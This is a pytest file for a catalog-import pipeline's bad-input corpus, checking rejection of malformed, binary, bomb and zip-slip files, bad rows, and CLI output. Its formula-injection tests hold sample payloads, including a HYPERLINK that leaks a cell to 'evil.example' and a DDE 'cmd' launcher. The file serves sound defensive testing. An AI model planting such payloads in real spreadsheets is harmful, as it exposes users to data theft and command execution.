"""The bad-input corpus (``tests/data/bad/``, listed in its README.md) through the transform.

Every case asserts its own outcome: either the file is rejected with a reason that names
what is wrong (and where), or it is read correctly. Nothing is lost: every data row of a
file is either in the output or listed in the errors CSV with a reason
(:func:`assert_every_row_accounted`, an independent parse of the input with Python's csv
module). A few cases also run through the ``threekit-pipeline`` command line, and the
worst files through the real ``threekit_catalog_import`` DAG.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import logging
import re
import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from threekit_pipeline.threekit.exports import flatten_catalog_to_csv
from threekit_pipeline.transform import (
    Mapping,
    TransformResult,
    load_mapping,
    transform_files,
    validate_translations_csv,
)
from threekit_pipeline.transform.mapping import InputLimits, SourceMapping

_TESTS = Path(__file__).resolve().parents[1]
if str(_TESTS / "pipelines") not in sys.path:
    sys.path.insert(0, str(_TESTS / "pipelines"))  # _dag_runs, the DAG-run helpers

BAD = _TESTS / "data" / "bad"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
CLI = Path(sys.executable).with_name("threekit-pipeline")


# --- Running the transform ---------------------------------------------------------------------


@dataclass
class Run:
    """One transform: the result, the written entries by SKU and the errors CSV rows."""

    result: TransformResult
    entries: dict[str, dict[str, Any]]  # SKU -> product
    errors: list[dict[str, str]]
    output_text: str

    def file(self, name: str) -> dict[str, Any]:
        (found,) = [f for f in self.result.per_file if f["file"] == name]
        return found

    def row_errors(self, name: str) -> dict[int, list[dict[str, str]]]:
        lines: dict[int, list[dict[str, str]]] = {}
        for error in self.errors:
            if error["file"] == name and error["line"]:
                lines.setdefault(int(error["line"]), []).append(error)
        return lines

    def reasons(self, name: str) -> dict[int, tuple[str, str]]:
        """line -> (column, reason) for files with one error per rejected line."""
        found = {}
        for line, errors in self.row_errors(name).items():
            assert len(errors) == 1, errors
            found[line] = (errors[0]["column"], errors[0]["reason"])
        return found


def read_errors_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == ["file", "line", "column", "key", "value", "reason"]
        return list(reader)


def transform(tmp_path: Path, files: list[Path], mapping: Mapping | str = "canonical") -> Run:
    out = tmp_path / f"out{len(list(tmp_path.glob('out*')))}"
    out.mkdir()
    result = transform_files(mapping, files, out / "catalog.jsonl")
    text = Path(result.output).read_text(encoding="utf-8")
    entries = {}
    for line in text.splitlines():
        entry = json.loads(line)
        entries[entry["query"]["metadata"][0]["defaultValue"]] = entry["product"]
    return Run(result, entries, read_errors_csv(Path(result.errors)), text)


def lenient(mapping: Mapping | str = "canonical") -> Mapping:
    """The mapping without the error-ratio cut-off, so the good rows of a bad file are written."""
    mapping = load_mapping(mapping) if not isinstance(mapping, Mapping) else mapping
    sources = {name: dataclasses.replace(s, max_error_ratio=1.0) for name, s in mapping.sources.items()}
    return dataclasses.replace(mapping, sources=sources)


# --- Accounting: every input row is written or listed ---------------------------------------------


def data_rows(path: Path, encoding: str = "utf-8", delimiter: str = ",") -> list[tuple[int, dict[str, str]]]:
    """(start line, record) of every non-blank data row, parsed independently of the product."""
    csv.field_size_limit(max(csv.field_size_limit(), path.stat().st_size))
    text = path.read_bytes().decode(encoding).lstrip("\ufeff")
    reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    header = next(reader)
    rows, previous = [], reader.line_num
    for record in reader:
        start, previous = previous + 1, reader.line_num
        if any(value.strip() for value in record):
            rows.append((start, dict(zip(header, record, strict=False))))
    return rows


def xlsx_rows(path: Path) -> list[tuple[int, dict[str, str]]]:
    """Rows of the first sheet as a person reads them: merged cells filled in, formulas as their values."""
    sheet = openpyxl.load_workbook(path, data_only=True).worksheets[0]
    for merged in list(sheet.merged_cells.ranges):
        value = sheet.cell(merged.min_row, merged.min_col).value
        sheet.unmerge_cells(str(merged))
        for row in range(merged.min_row, merged.max_row + 1):
            for column in range(merged.min_col, merged.max_col + 1):
                sheet.cell(row, column).value = value
    header = [cell.value for cell in sheet[1]]
    return [
        (cells[0].row, {h: "" if c.value is None else str(c.value) for h, c in zip(header, cells, strict=True)})
        for cells in sheet.iter_rows(min_row=2)
    ]


def _in_output(run: Run, row: dict[str, str], spec: SourceMapping) -> bool:
    def value(canonical: str) -> str:
        text = row.get(spec.columns.get(canonical, canonical), "").strip()
        return spec.value_maps.get(canonical, {}).get(text, text)

    product = run.entries.get(row[spec.columns["sku"]])
    if product is None:
        return False
    attributes = product.get("attributes", [])
    if spec.name == "products":
        return product.get("name") == value("name")
    if spec.name == "options":
        return any(
            a["type"] == "String" and a["name"] == value("attribute") and value("value") in a["values"] for a in attributes
        )
    if spec.name == "prices":
        return any(
            book["pricebook"] == value("pricebook") and value("currency").upper() in book["currencies"]
            for a in attributes
            if a["type"] == "Pricing"
            for book in a["values"]
        )
    raise AssertionError(f"no output check for {spec.name}")


def assert_every_row_accounted(
    run: Run, path: Path, rows: list[tuple[int, dict[str, str]]], mapping: Mapping | str = "canonical"
) -> None:
    """Nothing lost: each data row is in the output, or in the errors CSV with a reason.

    A file rejected as a whole carries its reason on a file-level line and contributes
    nothing to the output; its rows are listed too when they were read.
    """
    mapping = load_mapping(mapping) if not isinstance(mapping, Mapping) else mapping
    name = path.name
    outcome = run.file(name)
    spec = mapping.sources[outcome["source"]]
    listed = run.row_errors(name)
    assert outcome["rows"] == len(rows), (outcome, len(rows))
    assert all(e["reason"] for e in run.errors if e["file"] == name)
    assert outcome["rejected_rows"] == len(listed)
    assert set(listed) <= {line for line, _ in rows}
    if outcome["status"] == "rejected":
        file_level = [e for e in run.errors if e["file"] == name and not e["line"]]
        assert [e["reason"] for e in file_level] == [outcome["reason"]]
        assert name not in run.result.skus_by_file
        return
    missing = [(line, row) for line, row in rows if line not in listed and not _in_output(run, row, spec)]
    assert not missing, f"rows neither written nor listed in the errors CSV: {missing}"


# --- Whole files refused, each with its reason ------------------------------------------------------

REJECTED_FILES = [
    ("products_empty.csv", "canonical", r"file is empty \(no header line\)"),
    ("products_whitespace_only.csv", "canonical", r"file is empty \(no header line\)"),
    ("products_png_renamed.csv", "canonical", r"contains NUL bytes \(first on line 3\): a binary file, not CSV text"),
    (
        "products_mixed_encoding.csv",
        "canonical",
        r"mixed text encodings: line 2 is UTF-8 but line 4 is not \(byte 0xfc\); export the file in one encoding, "
        r"or declare it in the mapping",
    ),
    ("products_duplicate_headers.csv", "canonical", r"column 'name' appears more than once \(columns 2, 4\)"),
    ("products_duplicate_meta_headers.csv", "canonical", r"column 'meta:Color' appears more than once \(columns 3, 4\)"),
    (
        "products_missing_column.csv",
        "canonical",
        r"missing required column\(s\) 'name' \(name\); found 'sku', 'title', 'description'",
    ),
    (
        "Materialstamm_comma.csv",
        "sap_de",
        r"missing required column\(s\) 'Materialnummer' \(sku\), 'Bezeichnung' \(name\); "
        r"found 'Materialnummer,Bezeichnung,Langtext'",
    ),
    ("products_unterminated_quote.csv", "canonical", r"line 3: a quoted field is never closed \(unbalanced '\"'\)"),
    ("products_nul_in_field.csv", "canonical", r"contains NUL bytes \(first on line 4\): a binary file, not CSV text"),
    (
        "products_bomb.zip",
        "canonical",
        r"zip archive has a compression ratio above 200:1 \(possible decompression bomb\); refused",
    ),
    (
        "products_zipslip.zip",
        "canonical",
        r"unsafe path in archive: '\.\./\.\./outside/products\.csv' \(absolute or '\.\.' member paths are refused\)",
    ),
    (
        "products_absolute_paths.zip",
        "canonical",
        r"unsafe path in archive: '/etc/products\.csv' \(absolute or '\.\.' member paths are refused\)",
    ),
    (
        "products_truncated.csv.gz",
        "canonical",
        r"not a valid gzip file: Compressed file ended before the end-of-stream marker was reached",
    ),
    ("products_corrupt.csv.gz", "canonical", r"not a valid gzip file: .+"),
    (
        "options_formula_no_cache.xlsx",
        "canonical",
        r"cell C3: formula without a cached value; open and save the workbook in a spreadsheet program .*",
    ),
    ("products_merged_header.xlsx", "canonical", r"merged header cells B1:C1 are not supported; unmerge them"),
    (
        "products_empty_first_sheet.xlsx",
        "canonical",
        r"sheet 'Cover' is empty \(no header row\); other sheets: Products \(the mapping's 'sheet' names the one to read\)",
    ),
    ("options_named_sheet_missing.xlsx", str(BAD / "named_sheet.yaml"), r"sheet 'Options' not found \(sheets: Sheet1, Matrix\)"),
]


@pytest.mark.parametrize(("name", "mapping", "reason"), REJECTED_FILES, ids=[case[0] for case in REJECTED_FILES])
def test_unusable_file_is_rejected_with_its_reason(tmp_path, name, mapping, reason):
    run = transform(tmp_path, [BAD / name], mapping)

    (rejected,) = run.result.files_rejected
    assert rejected["file"] == name
    assert re.fullmatch(reason, rejected["reason"]), rejected["reason"]
    assert run.errors == [{"file": name, "line": "", "column": "", "key": "", "value": "", "reason": rejected["reason"]}]
    assert run.output_text == "" and run.result.products_written == 0
    assert not run.result.ok


def test_archive_inside_an_archive_is_refused_without_opening_it(tmp_path):
    # The inner archive holds the same 20 MB bomb as products_bomb.zip; it is never expanded.
    run = transform(tmp_path, [BAD / "products_nested.zip"])

    assert run.result.files_rejected == [
        {
            "file": "products_nested.zip!products_inner.zip",
            "reason": "archive inside an archive (products_inner.zip): nested archives are not opened; "
            "put the data files in the archive itself",
        }
    ]
    assert run.result.per_file[0]["input"] == "products_nested.zip"
    assert run.output_text == ""


def test_zip_expanding_beyond_the_size_cap_is_refused(tmp_path):
    # Same small bomb, now judged by the size cap alone (the ratio check is switched off).
    mapping = dataclasses.replace(
        load_mapping("canonical"), input_limits=InputLimits(max_uncompressed_bytes=1_000_000, max_compression_ratio=1e9)
    )
    run = transform(tmp_path, [BAD / "products_bomb.zip"], mapping)

    assert run.result.files_rejected == [
        {
            "file": "products_bomb.zip",
            "reason": "zip archive expands beyond 1,000,000 bytes (decompression limit); refused",
        }
    ]


def test_zip_slip_member_is_never_written_anywhere(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    work = tmp_path / "a" / "b"
    work.mkdir(parents=True)
    shutil.copy(BAD / "products_zipslip.zip", work)

    run = transform(work, [work / "products_zipslip.zip"])

    assert run.result.files_rejected[0]["reason"].startswith("unsafe path in archive")
    assert sorted(p.name for p in tmp_path.rglob("*") if p.is_file() and p.suffix == ".csv") == [
        "catalog.jsonl.errors.csv",
        "catalog.jsonl.hashes.csv",
        "catalog.jsonl.lines.csv",
        "catalog.jsonl.skus.csv",
    ]


# --- Odd but valid: read correctly ------------------------------------------------------------------


def test_header_only_file_is_accepted_with_nothing_to_do(tmp_path):
    run = transform(tmp_path, [BAD / "products_header_only.csv"])

    assert run.result.ok
    assert run.file("products_header_only.csv") == {
        "file": "products_header_only.csv",
        "input": "products_header_only.csv",
        "source": "products",
        "rows": 0,
        "rejected_rows": 0,
        "status": "ok",
        "reason": "",
    }
    assert run.output_text == "" and run.errors == []


def test_utf8_bom_is_stripped_from_the_first_header(tmp_path):
    path = BAD / "products_utf8_bom.csv"
    run = transform(tmp_path, [path])

    assert {sku: (p["name"], p["description"]) for sku, p in run.entries.items()} == {
        "BOM-001": ("Café Chair", "Crème finish"),
        "BOM-002": ("Øresund Sofa", "Ærø wool"),
    }
    assert_every_row_accounted(run, path, data_rows(path, encoding="utf-8-sig"))


def test_utf16_without_bom_is_recognised(tmp_path):
    path = BAD / "products_utf16le_nobom.csv"
    run = transform(tmp_path, [path])

    assert {sku: p["name"] for sku, p in run.entries.items()} == {"U16-001": "Łódź Lamp", "U16-002": "東京 Stool"}
    assert "\r" not in run.output_text
    assert_every_row_accounted(run, path, data_rows(path, encoding="utf-16-le", delimiter="\t"))


def test_crlf_line_endings_and_trailing_empty_lines(tmp_path):
    path = BAD / "products_crlf_trailing_blank.csv"
    run = transform(tmp_path, [path])

    assert run.result.rows_read == 2 and run.errors == []
    assert run.entries["CR-001"]["description"] == "Soft"
    assert "description" not in run.entries["CR-002"]  # an empty cell leaves Threekit's value alone
    assert "\r" not in run.output_text
    assert_every_row_accounted(run, path, data_rows(path))


def test_quoted_fields_with_embedded_newlines_keep_true_line_numbers(tmp_path):
    path = BAD / "products_multiline_quoted.csv"
    rows = data_rows(path)
    assert [line for line, _ in rows] == [2, 5, 7, 8]

    strict = transform(tmp_path, [path])
    assert strict.reasons(path.name) == {7: ("name", "empty name")}  # the physical line ML-003 starts on
    assert strict.result.files_rejected[0]["reason"].startswith("too many bad rows: 1 of 4 (25.0%)")
    assert_every_row_accounted(strict, path, rows)

    run = transform(tmp_path, [path], lenient())
    assert run.entries["ML-001"]["description"] == "Line one\nLine two\nLine three"
    assert run.entries["ML-002"]["description"] == 'He said "hi"\r\nand left'
    assert sorted(run.entries) == ["ML-001", "ML-002", "ML-004"]
    assert_every_row_accounted(run, path, rows)


def test_xlsx_merged_cells_and_cached_formula_values(tmp_path):
    path = BAD / "options_merged_formulas.xlsx"
    run = transform(tmp_path, [path])

    assert {sku: [(a["name"], a["values"], a["defaultValue"]) for a in p["attributes"]] for sku, p in run.entries.items()} == {
        "SOFA-1": [("Color", ["Red", "Blue"], "Red"), ("Width cm", ["160"], "160")],
        "CHAIR-1": [("Finish", ["Dark Oak"], "Dark Oak")],
    }
    assert run.errors == []
    rows = xlsx_rows(path)
    assert [(line, row["sku"], row["value"]) for line, row in rows] == [
        (2, "SOFA-1", "Red"),
        (3, "SOFA-1", "Blue"),
        (4, "SOFA-1", "160"),
        (5, "CHAIR-1", "Dark Oak"),
    ]
    assert_every_row_accounted(run, path, rows)


def test_file_name_with_spaces_and_unicode(tmp_path):
    path = BAD / "products Ünïcödé 2026 ✓.csv"

    strict = transform(tmp_path, [path])
    assert strict.reasons(path.name) == {4: ("name", "empty name")}
    assert strict.result.files_rejected == [
        {"file": path.name, "reason": "too many bad rows: 1 of 3 (33.3%) rejected, above the limit of 5.0%"}
    ]
    assert_every_row_accounted(strict, path, data_rows(path))

    run = transform(tmp_path, [path], lenient())
    assert {sku: p["name"] for sku, p in run.entries.items()} == {"UNI-001": "Sofa ✓", "UNI-002": "Stuhl Größe L"}
    assert run.result.skus_by_file == {path.name: ["UNI-001", "UNI-002"]}
    assert_every_row_accounted(run, path, data_rows(path))


# --- Row-level problems: the bad rows are listed, the good rows written ------------------------------

ROW_CASES = {
    "prices_bad_numbers.csv": (
        "canonical",
        {
            3: ("price", "negative price"),
            4: ("price", "price is NaN or infinite"),
            5: ("price", "price is NaN or infinite"),
            6: ("price", "price is NaN or infinite"),
            7: ("price", "price is NaN or infinite"),
            8: ("price", "price is not a number"),
            9: ("price", "empty price"),
        },
    ),
    "prices_non_iso_currency.csv": (
        "canonical",
        {
            2: ("currency", "unknown currency code (not ISO 4217): EURO"),
            3: ("currency", "unknown currency code (not ISO 4217): US$"),
            4: ("currency", "unknown currency code (not ISO 4217): €"),
            5: ("currency", "unknown currency code (not ISO 4217): XYZ"),
        },
    ),
    "products_path_skus.csv": (
        "canonical",
        {line: ("sku", "SKU contains a path character (/ or \\)") for line in (2, 3, 4, 5)},
    ),
    "products_long_fields.csv": (
        "canonical",
        {
            3: ("name", "longer than 255 characters"),
            4: ("description", "longer than 2000 characters"),
            5: ("sku", "SKU longer than 255 characters"),
            6: ("meta:Note", "longer than 2000 characters"),
        },
    ),
    "products_control_chars.csv": (
        "canonical",
        {
            3: ("name", "contains control characters"),
            4: ("name", "contains control characters"),
            5: ("name", "contains control characters"),
            6: ("name", "contains control characters"),
            9: ("description", "contains control characters"),
            10: ("sku", "SKU contains control characters"),
        },
    ),
    "prices_wrong_locale.csv": (
        str(BAD / "dot_decimal.yaml"),
        {
            3: ("price", "price is not a number (decimal '.', thousands ',')"),
            5: ("price", "price is not a number (decimal '.', thousands ',')"),
        },
    ),
    "Konditionen_us_format.csv": (
        "sap_de",
        {
            3: ("Betrag", "price is not a number (decimal ',', thousands '.')"),
            4: ("Betrag", "price is not a number (decimal ',', thousands '.')"),
        },
    ),
}
# What the good rows become (lenient mapping): SKU -> the part of the product the test looks at.
ROW_CASE_OUTPUT = {
    "prices_bad_numbers.csv": {
        "P-001": [{"pricebook": "EU Retail", "currencies": {"EUR": 100}}],
        "P-005": [{"pricebook": "EU Retail", "currencies": {"EUR": 12.5}}, {"pricebook": "US Retail", "currencies": {"USD": 0}}],
    },
    "prices_non_iso_currency.csv": {
        "C-003": [{"pricebook": "CH Retail", "currencies": {"CHF": 20}}, {"pricebook": "EU Retail", "currencies": {"EUR": 10}}],
    },
    "products_path_skus.csv": {"SAFE-001": "Fine", "SAFE-002": "Also fine", "..": "Two dots are not a path on their own"},
    "products_long_fields.csv": {"LF-001": "Fine", "LF-006": "At the limits"},
    "products_control_chars.csv": {"CC-001": "Fine", "CC-006": "Tab and newline in a description"},
    "prices_wrong_locale.csv": {
        "WL-001": [{"pricebook": "US Retail", "currencies": {"USD": 1234.56}}],
        "WL-003": [{"pricebook": "US Retail", "currencies": {"USD": 1234.5}}],
        "WL-005": [{"pricebook": "US Retail", "currencies": {"USD": 1234}}],
    },
    "Konditionen_us_format.csv": {
        "100200": [{"pricebook": "endkunden-de", "currencies": {"EUR": 1234.56}}],
        "100203": [{"pricebook": "fachhandel-de", "currencies": {"EUR": 99.9}}],
    },
}


def _source_rows(name: str, mapping: str) -> list[tuple[int, dict[str, str]]]:
    if mapping == "sap_de":
        return data_rows(BAD / name, encoding="cp1252", delimiter=";")
    return data_rows(BAD / name)


def _summary(product: dict[str, Any]) -> Any:
    pricing = [a for a in product.get("attributes", []) if a["type"] == "Pricing"]
    return pricing[0]["values"] if pricing else product["name"]


@pytest.mark.parametrize("name", list(ROW_CASES))
def test_bad_rows_are_listed_with_line_column_and_reason(tmp_path, name):
    mapping, expected = ROW_CASES[name]
    path = BAD / name
    rows = _source_rows(name, mapping)

    strict = transform(tmp_path, [path], mapping)
    assert strict.reasons(name) == expected
    assert strict.file(name)["status"] == "rejected"  # more than 5% of the rows are bad
    bad, total = len(expected), len(rows)
    assert strict.file(name)["reason"] == (
        f"too many bad rows: {bad} of {total} ({bad / total:.1%}) rejected, above the limit of 5.0%"
    )
    assert_every_row_accounted(strict, path, rows, mapping)

    run = transform(tmp_path, [path], lenient(mapping))
    assert run.reasons(name) == expected
    assert {sku: _summary(product) for sku, product in run.entries.items()} == ROW_CASE_OUTPUT[name]
    assert_every_row_accounted(run, path, rows, lenient(mapping))


def test_control_characters_are_visible_in_the_errors_csv(tmp_path):
    run = transform(tmp_path, [BAD / "products_control_chars.csv"], lenient())

    values = {int(e["line"]): e["value"] for e in run.errors if e["line"]}
    assert values[3] == "Esc\\x1b[31mape"
    assert values[4] == "Bell\\x07"
    assert values[5] == "Next\\x85Line"
    assert values[10] == "CC\\x01-008"
    # Tab and line breaks are allowed in free text and kept as they are.
    assert run.entries["CC-006"]["description"] == "col1\tcol2\nline 2"
    raw = Path(run.result.errors).read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", raw)


def test_option_rows_for_skus_missing_from_the_products_file(tmp_path):
    options, products = BAD / "options_unknown_skus.csv", BAD / "products_for_options.csv"
    run = transform(tmp_path, [products, options])

    assert run.reasons(options.name) == {
        9: ("sku", "SKU not in the batch products file (products_for_options.csv)")
    }
    assert run.result.ok  # 1 bad row of 41 is within the 5% allowance
    assert len(run.entries) == 20
    assert all(p["attributes"] == [{"type": "String", "name": "Color", "values": ["Red", "Blue"], "defaultValue": "Red"}]
               for p in run.entries.values())
    assert "GHOST-001" not in run.entries
    assert_every_row_accounted(run, options, data_rows(options))
    assert_every_row_accounted(run, products, data_rows(products))


# --- Spreadsheet formula injection -------------------------------------------------------------------

INJECTION_NAMES = {
    "INJ-001": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "INJ-002": "+cmd|' /C calc'!A0",
    "INJ-003": "-1+1",
    "INJ-004": "@SUM(A1:A9)",
}


def _cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_formula_payloads_are_kept_as_text_in_entries_and_neutralised_in_every_csv(tmp_path):
    path = BAD / "products_csv_injection.csv"
    run = transform(tmp_path, [path])

    # Threekit receives the text unchanged.
    assert {sku: run.entries[sku]["name"] for sku in INJECTION_NAMES} == INJECTION_NAMES
    assert run.entries["INJ-002"]["description"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert run.entries["INJ-003"]["keywords"] == ["=kw", "+kw2"]
    # The errors CSV: the rejected rows' values are prefixed, and no cell starts a formula.
    assert run.result.ok and run.result.rows_rejected == 2
    values = {int(e["line"]): (e["column"], e["value"], e["reason"]) for e in run.errors}
    assert values[6] == ("sku", "'=BAD/1", "SKU contains a path character (/ or \\)")
    assert values[7][0] == "name" and values[7][1].startswith("'=IMPORTXML(")
    assert not [c for c in _cells(Path(run.result.errors)) if c.startswith(FORMULA_START)]
    assert_every_row_accounted(run, path, data_rows(path))

    # The flattened catalog CSV written for partners.
    catalog_json = tmp_path / "catalog.json"
    catalog_json.write_text(json.dumps([json.loads(line) for line in run.output_text.splitlines()]))
    flatten_catalog_to_csv(catalog_json, tmp_path / "catalog.csv")
    with open(tmp_path / "catalog.csv", encoding="utf-8", newline="") as handle:
        flat = {row["sku"]: row for row in csv.DictReader(handle)}
    assert flat["INJ-001"]["name"] == "'" + INJECTION_NAMES["INJ-001"]
    assert flat["INJ-003"]["keywords"] == "'=kw|+kw2"
    assert flat["INJ-003"]["tags"] == "'@tag"
    assert flat["INJ-004"]["description"] == "'-2+3"
    assert not [c for c in _cells(tmp_path / "catalog.csv") if c.startswith(FORMULA_START)]


# --- Generated at test time: too big to commit ----------------------------------------------------------

HUNDRED_MB = 100 * 1024 * 1024


def _write_single_line(path: Path, piece: bytes, head: bytes = b"") -> Path:
    """``head`` followed by ``piece`` repeated up to 100 MB, without any line break."""
    with open(path, "wb") as handle:
        handle.write(head)
        block = piece * ((1 << 20) // len(piece))
        written = len(head)
        while written < HUNDRED_MB:
            chunk = block[: HUNDRED_MB - written]
            handle.write(chunk)
            written += len(chunk)
    return path


@pytest.fixture
def no_line_breaks(tmp_path) -> Path:
    """100 MB in one line: an export whose records were written without line breaks."""
    return _write_single_line(
        tmp_path / "products_no_line_breaks.csv", b"NL-0000001,Product,Plain description;", head=b"sku,name,description"
    )


@pytest.fixture
def one_huge_header(tmp_path) -> Path:
    """100 MB in one line without a single separator."""
    return _write_single_line(tmp_path / "products_one_huge_header.csv", b"x")


def _assert_short_logs(caplog, limit: int = 2000) -> None:
    long = [r.getMessage()[:100] for r in caplog.records if len(r.getMessage()) > limit]
    assert not long, long


def test_100_mb_line_of_records_is_refused_by_its_column_count(tmp_path, no_line_breaks, caplog):
    caplog.set_level(logging.INFO)
    run = transform(tmp_path, [no_line_breaks])

    (rejected,) = run.result.files_rejected
    # 2 separators in the header, 2 per glued record of 37 bytes: 5,667,981 columns.
    assert rejected["reason"] == (
        "line 1 has 5,667,981 columns, more than the 16,384 supported (a file without line breaks?)"
    )
    assert [e["reason"] for e in run.errors] == [rejected["reason"]]
    _assert_short_logs(caplog)


def test_100_mb_header_is_named_briefly_in_the_rejection(tmp_path, one_huge_header, caplog):
    caplog.set_level(logging.INFO)
    run = transform(tmp_path, [one_huge_header])

    (rejected,) = run.result.files_rejected
    assert rejected["reason"] == (
        "missing required column(s) 'sku' (sku), 'name' (name); found '" + "x" * 60 + "... (104,857,600 characters)'"
    )
    assert len(Path(run.result.errors).read_bytes()) < 1000
    assert len(json.dumps(run.result.to_dict())) < 5000  # small enough for XCom and the report
    _assert_short_logs(caplog)


@pytest.fixture
def ten_thousand_columns(tmp_path) -> Path:
    """sku, name, 999 metadata columns and 8,999 columns the mapping does not use: 10,000 in all."""
    header = ["sku", "name"] + [f"meta:K{i:03d}" for i in range(999)] + [f"unused {i}" for i in range(8999)]
    rows = [[f"W-{n}", f"Wide {n}"] + [f"m{n}-{i}" for i in range(999)] + ["x"] * 8999 for n in range(3)]
    path = tmp_path / "products_10000_columns.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows([header, *rows])
    return path


def test_10000_column_file_is_read_completely(tmp_path, ten_thousand_columns, caplog):
    caplog.set_level(logging.INFO)
    run = transform(tmp_path, [ten_thousand_columns])

    assert run.result.ok and run.errors == []
    assert sorted(run.entries) == ["W-0", "W-1", "W-2"]
    metadata = run.entries["W-2"]["metadata"]
    assert len(metadata) == 1000  # SKU + 999 metadata columns
    assert metadata[-1] == {"name": "K998", "defaultValue": "m2-998", "type": "String"}
    (unused,) = [r.getMessage() for r in caplog.records if "not used by mapping" in r.getMessage()]
    assert "8999 column(s) not used by mapping canonical: unused 0, unused 1," in unused
    assert unused.endswith("... (8979 more)")
    assert_every_row_accounted(run, ten_thousand_columns, data_rows(ten_thousand_columns))


def test_ragged_row_next_to_a_field_over_the_csv_modules_limit(tmp_path):
    # A ragged row sends the file to the record-by-record parser, whose csv module refuses
    # fields over 128 KiB unless told otherwise.
    path = tmp_path / "products_ragged_long_field.csv"
    good = "".join(f"G-{i:03d},Good {i}\n" for i in range(40))
    path.write_text("sku,name\nR-001,Ragged,extra\nR-002," + "y" * 200_000 + "\n" + good, encoding="utf-8")

    run = transform(tmp_path, [path])

    assert run.reasons(path.name) == {
        2: ("", "row has 3 fields, the header has 2"),
        3: ("name", "longer than 255 characters"),
    }
    assert run.result.ok and len(run.entries) == 40  # 2 of 42 rows bad: within 5%
    assert_every_row_accounted(run, path, data_rows(path))


def test_quote_left_open_early_in_a_large_file(tmp_path):
    path = tmp_path / "products_open_quote_large.csv"
    path.write_text('sku,name\nQ-001,ok\nQ-002,"oops\n' + "".join(f"Q-{i},x\n" for i in range(60_000)), encoding="utf-8")

    run = transform(tmp_path, [path])

    assert run.result.files_rejected == [
        {"file": path.name, "reason": "line 3: a quoted field is never closed (unbalanced '\"')"}
    ]


# --- Translations ------------------------------------------------------------------------------------------


def test_translations_with_bad_locale_codes_and_duplicate_keys(tmp_path):
    result = validate_translations_csv(
        BAD / "translations_bad_locales.csv", tmp_path / "clean.csv", tmp_path / "errors.csv"
    )

    assert result.ok and result.locales == ["en", "fr-FR", "pt-BR"]
    assert result.rejected_columns == [
        {"column": "english", "reason": "column header is not a locale code (e.g. en, fr, de-CH, pt-BR); column left out"},
        {"column": "de-DE-1996", "reason": "column header is not a locale code (e.g. en, fr, de-CH, pt-BR); column left out"},
        {"column": "EN (column 6)", "reason": "locale en appears more than once; column left out"},
    ]
    errors = {(e["line"], e["column"]): (e["value"], e["reason"]) for e in read_errors_csv(tmp_path / "errors.csv")}
    assert errors[("4", "Canonical Name")] == ("Oak", "duplicate key (first occurrence kept, line 2)")
    assert errors[("5", "Canonical Name")] == ("", "empty key (Canonical Name)")
    assert errors[("7", "fr_FR")] == ("Velours\\x1b", "contains control characters")
    # Every data row is in the clean file or listed.
    with open(tmp_path / "clean.csv", encoding="utf-8", newline="") as handle:
        clean = list(csv.reader(handle))
    assert clean == [
        ["Canonical Name", "en", "fr-FR", "pt-BR"],
        ["Oak", "Oak", "Chêne", "Carvalho"],
        ["Walnut", "Walnut", "Noyer", "Nogueira"],
        ["Linen", "Linen", "Lin", "Linho"],
    ]
    rows = data_rows(BAD / "translations_bad_locales.csv")
    listed = {int(line) for line, _ in errors if line != "1"}  # line 1: the header's rejected columns
    kept = {row[0] for row in clean[1:]}
    assert [line for line, row in rows if line not in listed and row["Canonical Name"] not in kept] == []
    assert result.rows == len(rows) == 6
    assert result.rows_rejected == len(listed) == 3


# --- The command line ------------------------------------------------------------------------------------


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(CLI), *args], capture_output=True, text=True, timeout=120)


@pytest.mark.parametrize(
    ("name", "mapping", "status", "expected_lines"),
    [
        (
            "products_mixed_encoding.csv",
            "canonical",
            1,
            [
                "  products_mixed_encoding.csv (products): 0 rows, 0 rejected, REJECTED",
                "  products_mixed_encoding.csv: mixed text encodings: line 2 is UTF-8 but line 4 is not (byte 0xfc); "
                "export the file in one encoding, or declare it in the mapping",
            ],
        ),
        (
            "products Ünïcödé 2026 ✓.csv",
            "canonical",
            1,
            [
                "Rows read:         3",
                "  products Ünïcödé 2026 ✓.csv:4 [name]: empty name",
            ],
        ),
        (
            "products_csv_injection.csv",
            "canonical",
            0,
            [
                "Products written:  48",
                "First rejected rows (2 of 2):",
                "  products_csv_injection.csv:6 [sku] \"'=BAD/1\": SKU contains a path character (/ or \\)",
            ],
        ),
        (
            "prices_wrong_locale.csv",
            str(BAD / "dot_decimal.yaml"),
            1,
            ["  prices_wrong_locale.csv:3 [price] '1.234,56': price is not a number (decimal '.', thousands ',')"],
        ),
    ],
    ids=["mixed-encoding", "unicode-name", "csv-injection", "wrong-locale"],
)
def test_cli_transform(tmp_path, name, mapping, status, expected_lines):
    completed = _cli("transform", "--mapping", mapping, "--output", str(tmp_path / "out.jsonl"), str(BAD / name))

    assert completed.returncode == status, completed.stdout + completed.stderr
    lines = completed.stdout.splitlines()
    for expected in expected_lines:
        assert expected in lines, completed.stdout
    errors = read_errors_csv(tmp_path / "out.jsonl.errors.csv")
    assert errors and all(e["file"] == name and e["reason"] for e in errors)


def test_cli_translations(tmp_path):
    completed = _cli(
        "translations", str(BAD / "translations_bad_locales.csv"), "--output", str(tmp_path / "clean.csv")
    )

    assert completed.returncode == 0, completed.stdout + completed.stderr
    assert "Locales:           en, fr-FR, pt-BR" in completed.stdout.splitlines()
    assert "  column 'EN (column 6)': locale en appears more than once; column left out" in completed.stdout
    assert (tmp_path / "clean.csv").read_text(encoding="utf-8").count("\n") == 4


# --- Through the catalog import DAG ---------------------------------------------------------------------

# Remote name (each its own stamp, so its own batch) -> corpus file; all of them are refused.
QUARANTINED = {
